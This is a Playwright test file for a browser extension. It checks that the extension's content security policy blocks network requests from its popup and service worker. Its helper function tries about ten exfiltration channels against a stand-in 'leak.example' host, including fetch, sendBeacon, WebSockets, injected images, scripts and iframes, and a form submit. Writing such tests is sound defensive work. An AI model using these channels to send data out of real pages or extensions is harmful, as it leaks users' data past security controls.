import type { Request } from '@playwright/test';
import { expect, test } from './harness.ts';

test('the security policy stops code of the extension that tries to reach the network', async ({
  extension,
}) => {
  const leak = 'https://leak.example/?text';
  const page = await extension.context.newPage();
  const outcomes: (string | undefined)[] = [];
  const note = (request: Request, outcome: string | undefined) => {
    if (request.url() === leak) outcomes.push(outcome);
  };
  page.on('requestfinished', (request) => note(request, 'answered'));
  page.on('requestfailed', (request) => note(request, request.failure()?.errorText));
  await page.goto(`chrome-extension://${extension.id}/popup.html`);
  await page.evaluate(tryEveryWayOut, leak);
  expect(outcomes.length).toBeGreaterThan(3);
  expect(new Set(outcomes)).toEqual(new Set(['csp']));

  const tried = extension.worker.evaluate((url) => fetch(url).then(String, String), leak);
  expect(await tried).toContain('Failed to fetch');
});

/** Runs in a page: what code that means to leak might do. Ends when the browser has had time to act. */
async function tryEveryWayOut(address: string): Promise<void> {
  const attempts = [
    () => fetch(address),
    () => navigator.sendBeacon(address),
    () => new WebSocket(address.replace('https', 'wss')),
    () => new EventSource(address),
    () => import(address),
    () => document.body.append(Object.assign(new Image(), { src: address })),
    () => document.body.append(Object.assign(document.createElement('iframe'), { src: address })),
    () => document.body.append(Object.assign(document.createElement('script'), { src: address })),
    () =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel: 'prefetch', href: address }),
        Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address }),
      ),
    () => {
      const form = Object.assign(document.createElement('form'), { action: address });
      document.body.append(form);
      form.submit();
    },
  ];
  await Promise.allSettled(attempts.map((attempt) => Promise.resolve().then(attempt)));
  await new Promise((resolve) => {
    setTimeout(resolve, 300);
  });
}
